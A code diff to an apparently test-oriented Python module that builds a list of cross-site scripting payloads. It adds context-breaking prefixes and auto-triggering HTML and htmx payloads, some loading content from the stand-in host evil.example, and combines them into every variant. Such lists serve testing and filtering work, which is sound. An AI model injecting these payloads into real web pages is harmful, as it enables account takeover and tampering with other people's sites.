@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-PAYLOADS = (
+_BY_HAND = (
     "<script>alert(1)</script>",
     "</script><script>alert(1)</script>",
     "<ScRiPt>alert(1)</sCrIpT>",
@@ -79,3 +79,26 @@ PAYLOADS = (
     "<p hx-get=//evil.example hx-trigger=load>",
     '<a data-hx-on:click="alert(1)" href="#">x</a>',
 )
+
+#: What ends the place that a text stands in, so that what follows is read as markup: attributes, elements, scripts.
+_ENDS = ("", '">', "'>", "</textarea>", "</title>", "</script>", "-->", '\\">', "x=`")
+#: What runs by itself or when it is touched, each in another way.
+_RUNS = (
+    "<script>alert(2)</script>",
+    "<img src=x onerror=alert(2)>",
+    "<svg/onload=alert(2)>",
+    "<svg><set onbegin=alert(2) attributeName=x></svg>",
+    "<input autofocus onfocus=alert(2)>",
+    "<select autofocus onfocus=alert(2)></select>",
+    "<audio src=x onerror=alert(2)></audio>",
+    "<marquee onstart=alert(2)>x</marquee>",
+    "<details open ontoggle=alert(2)>x</details>",
+    "<iframe src=javascript:alert(2)></iframe>",
+    "<object data=javascript:alert(2)></object>",
+    "<a href=javascript:alert(2) autofocus>x</a>",
+    "<form><button formaction=javascript:alert(2)>x</button></form>",
+    "<div hx-get=//evil.example/ hx-trigger=load>x</div>",
+    "<p hx-on:load=alert(2)>x</p>",
+)
+
+PAYLOADS = tuple(dict.fromkeys((*_BY_HAND, *(end + runs for runs in _RUNS for end in _ENDS))))
